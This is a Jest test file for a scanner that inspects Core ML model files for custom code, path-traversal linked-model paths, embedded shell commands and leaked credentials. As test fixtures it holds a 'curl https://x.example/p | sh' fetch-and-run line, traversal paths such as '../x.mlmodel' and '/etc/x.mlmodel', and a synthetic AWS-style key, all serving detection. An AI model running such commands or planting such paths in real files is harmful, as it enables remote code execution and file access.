import { describe, expect, it } from '@jest/globals'
import { message, number } from '../support/onnx.js'
import { rulesOf, scan } from '../support/scan.js'

const model = (...type: readonly Buffer[]): Buffer =>
  Buffer.concat([number(1, 5), message(2, message(1, message(1, 'image'))), ...type])
const layer = (...parts: readonly Buffer[]): Buffer => message(1, message(1, 'layer'), ...parts)
const CUSTOM = message(500, message(10, 'MyLayer'))

// Field numbers: coremltools Model.proto and NeuralNetwork.proto.
describe('Core ML', () => {
  it('accepts models without custom code', async () => {
    for (const bytes of [
      model(message(500, layer(message(140, number(1, 1))))),
      model(message(302, message(1, number(1, 1)))),
      model(message(502, number(1, 1))),
    ])
      for (const path of ['m.mlmodel', 'blob'])
        expect(await scan(bytes, path)).toEqual({ format: 'coreml', findings: [], gaps: [] })
  })

  it.each([
    ['a layer', model(message(500, layer(CUSTOM)))],
    ['a layer of a classifier', model(message(403, layer(CUSTOM)))],
    ['a model', model(message(555, message(10, 'MyModel')))],
    ['a linked model', model(message(556, message(1, message(1, message(1, 'part.mlmodel')))))],
    ['a pipeline', model(message(202, message(1, model(message(500, layer(CUSTOM))))))],
    [
      'a pipeline of a classifier',
      model(message(200, message(1, message(1, model(message(555, message(10, 'M'))))))),
    ],
    ['a branch', model(message(500, layer(message(605, message(1, layer(CUSTOM))))))],
    ['a loop', model(message(500, layer(message(615, message(4, layer(CUSTOM))))))],
  ])('tells of custom code in %s', async (_, bytes) => {
    expect(rulesOf(await scan(bytes, 'm.mlmodel'))).toEqual(['coreml-custom-code'])
  })

  it.each(['../x.mlmodel', '/etc/x.mlmodel', 'C:\\x.mlmodel', '$BUNDLE_MAIN/../../x.mlmodel'])(
    'denies a linked model at %s',
    async (path) => {
      const bytes = model(message(556, message(1, message(1, message(1, path)))))
      expect(rulesOf(await scan(bytes, 'm.mlmodel'))).toContain('coreml-linked-path')
    },
  )

  it('denies program text among its descriptions', async () => {
    const bytes = Buffer.concat([
      number(1, 5),
      message(2, message(100, message(2, 'curl https://x.example/p | sh'))),
      message(502, number(1, 1)),
    ])
    expect(rulesOf(await scan(bytes, 'm.mlmodel'))).toEqual(['embedded-program'])
  })

  it('has a gap for kinds that are not known, and tells of a credential', async () => {
    expect((await scan(model(message(3000, 'x')), 'm.mlmodel')).gaps).toMatchObject([
      { reason: 'not-understood' },
    ])
    const secret = `AKIA${'ABCD2345'.repeat(2)}`
    const bytes = Buffer.concat([
      number(1, 5),
      message(2, message(100, message(1, secret))),
      message(502, number(1, 1)),
    ])
    expect(rulesOf(await scan(bytes, 'm.mlmodel'))).toEqual(['metadata-secret'])
  })
})
